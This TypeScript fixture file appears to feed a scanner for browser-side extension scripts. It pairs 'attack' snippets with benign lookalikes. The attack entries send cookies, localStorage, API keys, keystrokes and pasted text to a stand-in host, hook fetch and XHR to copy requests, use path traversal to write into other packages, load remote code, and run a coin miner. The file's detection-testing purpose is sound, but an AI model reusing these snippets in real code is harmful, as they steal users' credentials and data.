import type { Files } from './scanned.js';

/** An attack by a script, and what is close to it and honest. */
export type ScriptPack = {
  readonly rule: string;
  readonly what: string;
  readonly attack: string | Files;
  readonly honest?: string | Files;
};

const EVIL = 'https://collect.example.net/c';
const BUNDLE = 'function a(b,c){return b.d(c)};'.repeat(4_000);
const page = (source: string): Files => ({ 'web/page.html': source });

const OUTLETS: readonly ScriptPack[] = [
  {
    rule: 'script_sends_store',
    what: 'names that a server of calls looks up',
    attack:
      'new RTCPeerConnection({ iceServers: [{ urls: "stun:" + btoa(document.cookie).slice(0, 60) + ".collect.example.net" }] })',
    honest:
      'new RTCPeerConnection({ iceServers: [{ urls: "stun:stun.example.net:3478" }] });\nlocalStorage.getItem("theme")',
  },
  {
    rule: 'script_sends_store',
    what: 'a name for a relay of calls',
    attack:
      'const p = new RTCPeerConnection({ iceServers: [{ urls: "turn:collect.example.net", username: document.cookie, credential: "a" }] })',
  },
  {
    rule: 'script_sends_store',
    what: 'a stream of events',
    attack: `new EventSource("${EVIL}?" + localStorage.getItem("token"))`,
    honest: 'new EventSource("/my/events?theme=" + localStorage.getItem("token"))',
  },
  {
    rule: 'script_sends_store',
    what: 'a frame',
    attack: `const f = document.createElement("iframe"); f.src = "${EVIL}?" + document.cookie; document.body.append(f)`,
    honest: `const f = document.createElement("iframe"); f.src = "${EVIL}?theme=dark"; const c = document.cookie`,
  },
  {
    rule: 'script_sends_store',
    what: 'a message to a frame',
    attack: `const f = document.createElement("iframe"); f.src = "${EVIL}"; f.onload = () => f.contentWindow.postMessage(document.cookie, "*")`,
    honest: `const f = document.createElement("iframe"); f.src = "${EVIL}"; const c = document.cookie; f.onload = () => f.contentWindow.postMessage("hello", "*")`,
  },
  {
    rule: 'script_sends_store',
    what: 'an import',
    attack: 'import("https://cdn.jsdelivr.net/npm/x?" + document.cookie)',
  },
  {
    rule: 'script_sends_store',
    what: 'a style sheet',
    attack: `const s = document.createElement("style"); s.textContent = "body { background: url(${EVIL}?" + document.cookie + ") }"; document.head.append(s)`,
    honest: `const s = document.createElement("style"); s.textContent = "body { background: url(${EVIL}) }"; const c = document.cookie`,
  },
  {
    rule: 'script_sends_store',
    what: 'a property of a style',
    attack: `document.body.style.setProperty("background", \`url(${EVIL}?\${document.cookie})\`)`,
  },
  {
    rule: 'script_sends_store',
    what: 'a rule of a style sheet',
    attack: `document.styleSheets[0].insertRule("body { background: url(${EVIL}?" + document.cookie + ") }")`,
  },
  {
    rule: 'script_sends_store',
    what: 'a font',
    attack: `new FontFace("a", "url(${EVIL}?" + document.cookie + ")").load()`,
  },
  {
    rule: 'script_sends_store',
    what: 'an attribute of a picture',
    attack: `const i = new Image(); i.setAttribute("src", "${EVIL}?" + document.cookie)`,
  },
  {
    rule: 'script_sends_store',
    what: 'a picture shown before a film',
    attack: `document.createElement("video").poster = "${EVIL}?" + document.cookie`,
  },
  {
    rule: 'script_sends_store',
    what: 'a request that is made first',
    attack: `const r = new Request("${EVIL}", { method: "POST", body: document.cookie }); fetch(r)`,
  },
  {
    rule: 'script_sends_store',
    what: 'a function that is bound and applied',
    attack: `navigator.sendBeacon.apply(navigator, ["${EVIL}", document.cookie])`,
  },
  {
    rule: 'script_sends_store',
    what: 'a text for a timer',
    attack: `setTimeout("fetch('${EVIL}?' + document.cookie)", 500)`,
  },
  {
    rule: 'script_sends_store',
    what: 'a handler that is set',
    attack: `document.body.setAttribute("onclick", "fetch('${EVIL}?' + document.cookie)")`,
  },
  {
    rule: 'script_sends_store',
    what: 'a worker that is written in a text',
    attack: `const w = new Worker(URL.createObjectURL(new Blob(["onmessage = (e) => fetch('${EVIL}', { method: 'POST', body: e.data })"])));\nw.postMessage(document.cookie)`,
    honest:
      'const w = new Worker(URL.createObjectURL(new Blob(["onmessage = (e) => postMessage(e.data * 2)"])));\nw.postMessage(2)',
  },
];

const SOURCES: readonly ScriptPack[] = [
  {
    rule: 'script_sends_store',
    what: 'the getter of the cookies',
    attack: `const d = Object.getOwnPropertyDescriptor(Document.prototype, "cookie");\nfetch("${EVIL}?" + d.get.call(document))`,
  },
  {
    rule: 'script_sends_store',
    what: 'cookies taken out of the document',
    attack: `const { cookie: c } = document, k = "localStorage";\nfetch("${EVIL}", { method: "POST", body: c + JSON.stringify(window[k]) })`,
  },
  {
    rule: 'script_sends_store',
    what: 'a cookie that a bundle reads as axios does',
    attack: `${BUNDLE}var r=function(e){var t=document.cookie.match(new RegExp("(^|;\\s*)("+e+")=([^;]*)"));return t?t[3]:null};fetch("${EVIL}?"+r("session"))`,
    honest: `${BUNDLE}var r=function(e){var t=document.cookie.match(new RegExp("(^|;\\s*)("+e+")=([^;]*)"));return t?t[3]:null};var x=new XMLHttpRequest;x.open("GET",u);x.setRequestHeader("X-XSRF-TOKEN",r("XSRF-TOKEN"));x.send()`,
  },
  {
    rule: 'script_sends_store',
    what: 'entries of the store',
    attack: `for (const [k, v] of Object.entries(localStorage)) fetch("${EVIL}?" + k + "=" + v)`,
    honest:
      'for (const [k, v] of Object.entries(localStorage)) console.log(k, v);\nfetch("https://api.example.org/list")',
  },
  {
    rule: 'script_sends_store',
    what: 'all settings of the host',
    attack: `api.getSettings().then((s) => fetch("${EVIL}", { method: "POST", body: JSON.stringify(s) }))`,
    honest:
      'api.getSettings().then((s) => applyTheme(s["my.theme"]));\nfetch("https://api.example.org/list")',
  },
  {
    rule: 'script_sends_store',
    what: 'a route of settings',
    attack: `fetch("/api/settings").then((r) => r.json()).then((s) => navigator.sendBeacon("${EVIL}", JSON.stringify(s)))`,
  },
  {
    rule: 'script_sends_store',
    what: 'a key that another package keeps',
    attack: `const k = app.ui.settings.getSettingValue("OtherPack.OpenAI.ApiKey");\nfetch("${EVIL}", { headers: { a: k } })`,
    honest: `app.ui.settings.addSetting({ id: "Mine.ApiKey", name: "Key", type: "text" });\nconst k = app.ui.settings.getSettingValue("Mine.ApiKey");\nfetch("${EVIL}", { headers: { Authorization: k } })`,
  },
  {
    rule: 'script_sends_store',
    what: 'a key in the new settings',
    attack: `const k = app.extensionManager.setting.get("Other.Token");\nfetch("${EVIL}?k=" + k)`,
    honest: `const k = app.extensionManager.setting.get("Comfy.Locale");\nfetch("https://api.example.org/texts?l=" + k)`,
  },
  {
    rule: 'script_sends_typed',
    what: 'what is pasted',
    attack: `document.addEventListener("paste", (e) => fetch("${EVIL}", { method: "POST", body: e.clipboardData.getData("text") }))`,
    honest: `document.addEventListener("paste", (e) => insert(e.clipboardData.getData("text")));\nfetch("https://api.example.org/a")`,
  },
  {
    rule: 'script_sends_typed',
    what: 'keys by jQuery',
    attack: `$(document).on("keypress", (e) => $.post("${EVIL}", { k: e.key }))`,
  },
  {
    rule: 'script_sends_typed',
    what: 'all fields, again and again',
    attack: `setInterval(() => {\n  const all = [...document.querySelectorAll("input, textarea")].map((f) => f.value);\n  navigator.sendBeacon("${EVIL}", all.join("|"));\n}, 5000)`,
    honest: `const all = [...panel.querySelectorAll("input.mine")].map((f) => f.value);\nfetch("${EVIL}", { method: "POST", body: all.join("|") })`,
  },
  {
    rule: 'script_sends_typed',
    what: 'a page that asks for passwords',
    attack: page(
      `<form method="post" action="${EVIL}"><input name="user"><input type="password" name="p"></form>`,
    ),
    honest: page(
      '<form method="post" action="/my/login"><input type="password" name="p"></form><a href="https://example.org">a</a>',
    ),
  },
];

const HOST: readonly ScriptPack[] = [
  {
    rule: 'script_leaks_by_address',
    what: 'requests of the host by another fetchApi',
    attack: `const f = api.fetchApi;\napi.fetchApi = function (route, options) {\n  if (options?.body) navigator.sendBeacon("${EVIL}", options.body);\n  return f.apply(this, arguments);\n}`,
    honest:
      'const f = api.fetchApi;\napi.fetchApi = function (route, options) { console.log(route); return f.apply(this, arguments) };\nfetch("https://api.example.org/version")',
  },
  {
    rule: 'script_sends_prompts',
    what: 'requests by another fetch',
    attack: `const old = window.fetch;\nwindow.fetch = async (...all) => {\n  old("${EVIL}", { method: "POST", body: JSON.stringify(all) });\n  return old(...all);\n}`,
    honest:
      'const old = window.fetch;\nwindow.fetch = async (...all) => { count += 1; return old(...all) };\nold("https://api.example.org/version")',
  },
  {
    rule: 'script_sends_prompts',
    what: 'requests by a proxy',
    attack: `const old = window.fetch;\nwindow.fetch = new Proxy(old, { apply(target, self, all) { old("${EVIL}", { method: "POST", body: all[1].body }); return target(...all) } })`,
  },
  {
    rule: 'script_leaks_by_address',
    what: 'what other requests send',
    attack: `const old = XMLHttpRequest.prototype.send;\nXMLHttpRequest.prototype.send = function (body) { navigator.sendBeacon("${EVIL}", body); return old.call(this, body) }`,
  },
  {
    rule: 'script_sends_prompts',
    what: 'arguments of another function of the app',
    attack: `const old = app.queuePrompt;\napp.queuePrompt = async function () { fetch("${EVIL}", { method: "POST", body: JSON.stringify(arguments) }); return old.apply(this, arguments) }`,
  },
  {
    rule: 'script_sends_prompts',
    what: 'a member that is defined',
    attack: `const old = api.queuePrompt;\nObject.defineProperty(api, "queuePrompt", { value: async (n, data) => { fetch("${EVIL}", { method: "POST", body: JSON.stringify(data) }); return old(n, data) } })`,
  },
  {
    rule: 'script_sends_prompts',
    what: 'requests that a service worker sees',
    attack: `self.addEventListener("fetch", (e) => { e.waitUntil(e.request.clone().text().then((t) => fetch("${EVIL}", { method: "POST", body: t }))) })`,
    honest: 'self.addEventListener("fetch", (e) => { e.respondWith(caches.match(e.request)) })',
  },
  {
    rule: 'script_sends_prompts',
    what: 'outputs by a function that is given an encoded address',
    attack:
      'const post = (u, d) => fetch(u, { method: "POST", body: d });\napi.addEventListener("executed", (e) => post(atob(x), JSON.stringify(e.detail)))',
    honest:
      'class Editor {\n  static blobOf(d) { const b = atob(d.split(",")[1]); return new Blob([Uint8Array.from(b, (c) => c.charCodeAt(0))]) }\n  static uploadImage(blob, id) { const body = new FormData(); body.append("image", new File([blob], id)); api.fetchApi("/upload/image", { method: "POST", body }) }\n}\napi.addEventListener("executed", (e) => Editor.uploadImage(Editor.blobOf(canvas.toDataURL()), e.detail.node));\nimage.src = "https://example.org/a.png"',
  },
  {
    rule: 'script_installs_packages',
    what: 'a route in pieces',
    attack: 'fetch("/cust" + "omnode/ins" + "tall/git_url", { method: "POST", body: "https://example.org/a" })',
  },
  {
    rule: 'script_installs_packages',
    what: 'a joined route',
    attack: 'api.fetchApi(["", "customnode", "install"].join("/"), { method: "POST" })',
    honest: 'api.fetchApi(["", "my", "list"].join("/"), { method: "POST" })',
  },
  {
    rule: 'script_installs_packages',
    what: 'a restored snapshot',
    attack: 'fetch("/snapshot/restore?target=mine", { method: "POST" })',
  },
  {
    rule: 'script_writes_outside',
    what: 'an upload into other packages',
    attack:
      'const d = new FormData();\nd.append("image", new Blob(["import os"]), "a.py");\nd.append("subfolder", "../../custom_nodes/a");\nfetch("/upload/image", { method: "POST", body: d })',
    honest:
      'const d = new FormData();\nd.append("image", file, "a.png");\nd.append("subfolder", "mine");\nfetch("/upload/image", { method: "POST", body: d })',
  },
  {
    rule: 'script_writes_outside',
    what: 'user data outside of its folder',
    attack: 'api.fetchApi("/userdata/..%2F..%2Fcustom_nodes%2Fa.py", { method: "POST", body: code })',
    honest: 'api.fetchApi("/userdata/mine%2Fa.json", { method: "POST", body: data })',
  },
  {
    rule: 'script_takes_over_pages',
    what: 'a service worker at the root',
    attack: 'navigator.serviceWorker.register("/my-worker.js")',
    honest: 'navigator.serviceWorker.register("/extensions/mine/sw.js")',
  },
];

const LOADED: readonly ScriptPack[] = [
  {
    rule: 'script_loads_from_pages',
    what: 'a repository by a host of libraries',
    attack: 'import("https://cdn.jsdelivr.net/gh/someone/something/a.js")',
    honest: 'const u = "https://cdn.jsdelivr.net/gh/someone/something/a.png"; image.src = u',
  },
  {
    rule: 'script_loads_foreign_code',
    what: 'a worker of another host',
    attack: 'importScripts("https://code.example.net/a.js")',
    honest: 'importScripts("./a.js")',
  },
  {
    rule: 'script_loads_foreign_code',
    what: 'a worker that loads',
    attack:
      'new Worker(URL.createObjectURL(new Blob(["importScripts(\'https://code.example.net/a.js\')"])))',
  },
  {
    rule: 'script_mines_coins',
    what: 'a program and a socket',
    attack:
      'const { instance } = await WebAssembly.instantiateStreaming(fetch("a.wasm"));\nconst s = new WebSocket("wss://pool.example.net:3333");\ns.onopen = () => s.send(JSON.stringify({ method: "login", params: { login: wallet, pass: "x" } }));\ns.onmessage = (e) => { const job = JSON.parse(e.data); hashes += instance.exports.hash(job.blob, job.target, nonce++) };',
    honest:
      'const { instance } = await WebAssembly.instantiateStreaming(fetch("a.wasm"));\nconst s = new WebSocket(location.origin + "/ws");\ns.onmessage = (e) => { const job = JSON.parse(e.data); show(job.target, nonce) };',
  },
];

export const SCRIPT_ATTACK_PACKS: readonly ScriptPack[] = [...OUTLETS, ...SOURCES, ...HOST, ...LOADED];
